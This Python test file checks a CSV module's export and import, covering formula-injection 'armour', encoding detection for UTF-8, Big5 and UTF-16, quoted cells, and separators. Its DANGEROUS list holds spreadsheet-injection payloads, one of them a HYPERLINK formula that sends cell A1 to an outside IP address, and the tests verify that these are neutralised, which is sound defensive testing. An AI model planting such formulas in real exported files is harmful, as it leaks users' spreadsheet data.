"""CSV out and in again: nothing runs, nothing changes, a broken line costs itself only."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardian.domain.csv_text import (
    BOM,
    CELL_CHARS_MAX,
    QUOTED_LINES_MAX,
    armour,
    csv_bytes,
    csv_row,
    decode_csv,
    parse_csv,
    unarmour,
)

DANGEROUS = ('=HYPERLINK("http://203.0.113.9/?"&A1,"詳")', "+886-2-2345-6789", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1", "  =1+1", "\tx", "\rx",
             "＋1", "－1", "＠x", "'=1+1")  # fmt: skip


@settings(deadline=None)
@given(st.text(max_size=20))
def test_taking_armour_off_gives_back_every_text(text: str) -> None:
    if not (text.startswith('="') and text.endswith('"')):
        assert unarmour(armour(text)) == text


@pytest.mark.parametrize("text", [*DANGEROUS, "3E-0012", "6E-8080", "MAR-2025", "1E5", "0480580", "12-11"])
def test_what_a_spreadsheet_would_run_or_change_begins_with_an_apostrophe(text: str) -> None:
    assert armour(text) == "'" + text


@pytest.mark.parametrize("text", ["BKD-8869", "048-0580", "2026-12-31", "中山分局 115-0832", "失竊", ""])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert armour(text) == text


@settings(deadline=None)
@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff\r\u3000 ", exclude_categories=["Cs"]), min_size=1, max_size=12), min_size=2, max_size=2), min_size=1, max_size=8))  # fmt: skip
def test_rows_come_back_as_they_went_out(rows: list[list[str]]) -> None:
    body = b"".join(csv_bytes(["a", "b"], rows))
    text, encoding = decode_csv(body)
    back = [list(row.cells) for row in parse_csv(text)][1:]
    assert encoding == "UTF-8"
    assert [row.problem for row in parse_csv(text)] == [""] * (len(rows) + 1)
    assert back == [[unarmour_by_hand(cell) for cell in row] for row in rows]


def unarmour_by_hand(text: str) -> str:
    return (
        text[2:-1] if text.startswith('="') and text.endswith('"') and '"' not in text[2:-1] and len(text) > 2 else text
    )


@settings(deadline=None)
@given(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff", exclude_categories=["Cs"]), max_size=8), min_size=1, max_size=5))  # fmt: skip
def test_other_readers_of_csv_see_the_same_cells(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_row(["x", *cells]), newline=""))
    assert row == ["x", *(armour(cell) for cell in cells)]


def test_numbers_stay_numbers() -> None:
    assert csv_row([-12.5, 3, None, "-12.5"]) == "-12.5,3,,'-12.5\r\n"


def test_the_mark_of_utf_8_comes_first_and_once() -> None:
    pieces = list(csv_bytes(["車號"], [["ABC-1235"]]))
    assert pieces[0] == BOM.encode() + "車號\r\n".encode()
    assert BOM.encode() not in b"".join(pieces[1:])


def test_a_quoted_cell_may_hold_a_line_break_and_later_rows_keep_their_true_line() -> None:
    rows = list(parse_csv('a,b\r\n1,"x\r\ny"\r\n2,z\r\n'))
    assert [(row.line, row.cells, row.problem) for row in rows] == [
        (1, ("a", "b"), ""), (2, ("1", "x\ny"), ""), (4, ("2", "z"), "")]  # fmt: skip


def test_a_quotation_mark_that_is_never_closed_costs_its_own_line_only() -> None:
    text = 'a,b\n1,"open\n2,z\n3,"good"\n4,""\n'
    assert [(row.line, row.problem) for row in parse_csv(text)] == [
        (1, ""), (2, "open-quote"), (3, ""), (4, ""), (5, "")]  # fmt: skip


@settings(deadline=None)
@given(st.text('ab,"\n;\t', max_size=60))
def test_no_text_breaks_the_reader_and_no_filled_line_is_lost(text: str) -> None:
    rows = list(parse_csv(text))
    covered = sum(row.raw.count("\n") + 1 for row in rows)
    filled = [line for line in text.split("\n") if line.strip()]
    assert covered >= len(filled)
    assert [row.line for row in rows] == sorted({row.line for row in rows})


@pytest.mark.parametrize(
    ("body", "text", "encoding"),
    [("車號".encode(), "車號", "UTF-8"), ("車號".encode("cp950"), "車號", "Big5"), (b"\xf9\xd8", "裏", "Big5"),
     ("車號".encode("utf-16"), "車號", "UTF-16")],
)  # fmt: skip
def test_the_encoding_is_found(body: bytes, text: str, encoding: str) -> None:
    assert decode_csv(body) == (text, encoding)


def test_an_encoding_that_a_person_chose_is_taken_and_what_it_cannot_read_is_marked() -> None:
    assert decode_csv("車號".encode("cp950"), "utf-8") == ("\ufffd\ufffd\ufffd\ufffd", "UTF-8")
    text, encoding = decode_csv("車號".encode(), "big5")
    assert encoding == "Big5" and text != "車號"
    assert decode_csv("車".encode("utf-16"), "utf_16") == ("車", "UTF-16")
    assert decode_csv(b"\xfe\xff\x8e\xca") == ("車", "UTF-16"), "the other order of bytes"
    assert decode_csv("車".encode("utf-16"), "utf-8")[1] == "UTF-8"


def test_signs_of_hong_kong_are_read_and_bytes_of_no_encoding_are_marked_not_dropped() -> None:
    assert decode_csv(b"\x87\x40") == ("\u43f0", "Big5"), "only HKSCS knows it"
    assert decode_csv(b"\xa3\xe1") == ("€", "Big5"), "as Windows reads it"
    text, encoding = decode_csv(b"\xa8\xae\xff\xff,x")
    assert encoding == "Big5" and text.startswith("車\ufffd") and text.endswith(",x")


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        ("a;b;c,d\n", ("a", "b", "c,d")),
        ("a\tb\tc;d\n", ("a", "b", "c;d")),
        ("\n \na;b\n", ("a", "b")),  # what stands before the first filled line says nothing
        ("only\n", ("only",)),
        ('"a",b,\n', ("a", "b", "")),  # a separator at the end opens a last, empty cell
        ('a,"b"\r', ("a", "b")),  # line ends of old machines
        ("\u3000a ,\u3000 b\u3000\n", ("a", "b")),
        ("'=1+1,'x,=\"0480580\"\n", ("=1+1", "'x", "0480580")),  # armour goes, an apostrophe of one's own stays
    ],
)
def test_the_separator_and_the_edges_of_cells_are_found(text: str, cells: tuple[str, ...]) -> None:
    assert next(parse_csv(text)).cells == cells


def test_old_line_ends_and_marks_inside_joined_files_are_taken_off() -> None:
    rows = list(parse_csv("a,b\r\ufeffc,d\r\r\n\ufeffe,f"))
    assert [(row.line, row.cells) for row in rows] == [(1, ("a", "b")), (2, ("c", "d")), (4, ("e", "f"))]


def test_a_quoted_cell_runs_over_so_many_lines_and_no_more() -> None:
    def problems(breaks: int) -> list[str]:
        text = 'a,b\n1,"x' + "\ny" * breaks + '"\n2,z\n'
        return [row.problem for row in parse_csv(text)]

    assert problems(QUOTED_LINES_MAX) == ["", "", ""]
    assert problems(QUOTED_LINES_MAX + 1)[1] == "open-quote"


def test_a_quotation_mark_that_swallows_whole_rows_is_seen_by_the_number_of_cells() -> None:
    rows = list(parse_csv('a,b\n1,"x\n2,y",z\n3,w\n'))
    assert [(row.line, row.problem) for row in rows] == [(1, ""), (2, "open-quote"), (3, ""), (4, "")]
    ragged = list(parse_csv('a,b\n"1"\n'))
    assert ragged[1].problem == "", "too few cells in one line is no open quote"
    broken = list(parse_csv('a,b\n"1"x,2\n3,4\n'))
    assert [row.problem for row in broken] == ["", "open-quote", ""], "a sign after the closing mark"


def test_a_cell_out_of_all_measure_is_cut_and_said_and_one_that_fits_is_whole() -> None:
    rows = list(parse_csv("a,b\n" + "x" * CELL_CHARS_MAX + ",1\n" + "x" * (CELL_CHARS_MAX + 1) + ",2\n"))
    assert [(len(row.cells[0]), row.problem) for row in rows[1:]] == [
        (CELL_CHARS_MAX, ""), (CELL_CHARS_MAX, "cell-too-long"),
    ]  # fmt: skip
    assert len(rows[2].raw) == CELL_CHARS_MAX
    (_, both) = parse_csv('a\n"' + "x" * (CELL_CHARS_MAX + 5) + "\n")
    assert both.problem == "open-quote", "the cause is said before what follows from it"


@pytest.mark.parametrize("sign", [",", '"', "\r", "\n", "\t", ";"])
def test_a_cell_with_a_sign_that_any_reader_may_take_for_an_end_stands_in_quotation_marks(sign: str) -> None:
    assert csv_row([f"a{sign}b"]) == '"a' + sign.replace('"', '""') + 'b"\r\n'
